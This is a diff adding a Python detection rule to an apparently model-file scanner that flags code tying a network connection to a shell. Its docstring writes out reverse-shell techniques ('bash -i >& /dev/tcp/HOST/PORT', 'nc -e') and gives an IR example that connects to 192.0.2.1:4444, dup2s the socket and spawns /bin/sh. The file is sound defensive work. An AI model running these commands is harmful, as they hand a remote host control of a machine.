@@ -1,0 +1,84 @@
+"""A connection is tied to a shell: whoever listens at the other end types commands here.
+
+The classic is `connect`, then `dup2` of the socket over the standard streams, then a shell. The same
+thing without `dup2` is a shell with the socket as its streams, `bash -i >& /dev/tcp/HOST/PORT`, or
+`nc -e`. Nothing that a checkpoint or a dataset does needs this.
+
+Bad:
+
+    %0 = name socket.socket
+    %1 = call %0
+    %2 = attr %1, connect
+    %3 = const '192.0.2.1'
+    %4 = const 4444
+    %5 = make tuple, %3, %4
+    %6 = call %2, %5
+    %7 = name os.dup2
+    %8 = attr %1, fileno
+    %9 = call %8
+    %10 = const 0
+    %11 = call %7, %9, %10
+    %12 = name pty.spawn
+    %13 = const '/bin/sh'
+    %14 = call %12, %13
+
+Good:
+
+    %0 = name socket.socket
+    %1 = call %0
+    %2 = attr %1, connect
+    %3 = const 'localhost'
+    %4 = const 6006
+    %5 = make tuple, %3, %4
+    %6 = call %2, %5
+"""
+
+from collections.abc import Iterator
+
+from scanner.facts import Effect, Facts
+from scanner.finding import Behaviour, Finding, Precision, Rule, Severity
+from scanner.rules._report import finding, together
+
+RULE = Rule(
+    id="remote-shell",
+    title="A network connection is given a shell",
+    severity=Severity.ERROR,
+    precision=Precision.VERY_HIGH,
+    security_severity=9.5,
+    cwe=(506, 912),
+    attack=("T1059", "T1071"),
+    atlas=("AML.T0011.000", "AML.T0072"),
+    specificity=90,
+)
+
+REACHES = ("net.connect", "net.listen")
+SHELLS = ("process.spawn", "tty.spawn")
+TELLTALE = frozenset({"dev-tcp"})
+
+
+def check(facts: Facts) -> Iterator[Finding]:
+    """A connection and a shell on one path: tied by descriptors, a terminal, or one command."""
+    effects = list(facts.running())
+    reach = [e for e in effects if e.kind in REACHES]
+    shells = [e for e in effects if e.kind in SHELLS and not _talks_back(e)]
+    ties = [e for e in effects if e.kind in {"fd.redirect", "tty.spawn"}]
+    if reach and shells and ties:
+        yield _report([*reach, *ties, *shells])
+        return
+    for effect in effects:
+        piped = effect.kind in SHELLS and any("socket" in a.text for a in effect.arguments)
+        if (piped and reach) or (effect.kind in SHELLS and effect.indicators & TELLTALE):
+            yield _report([*(reach if piped else ()), effect])
+            return
+
+
+def _talks_back(effect: Effect) -> bool:
+    """A shell command that is itself only the carrier of further code is not the shell."""
+    return effect.kind == "process.spawn" and not effect.arguments
+
+
+def _report(effects: list[Effect]) -> Finding:
+    last = effects[-1]
+    return finding(
+        RULE, last, "gives a shell to a remote host", Behaviour.REMOTE_SHELL, steps=together(effects)
+    )
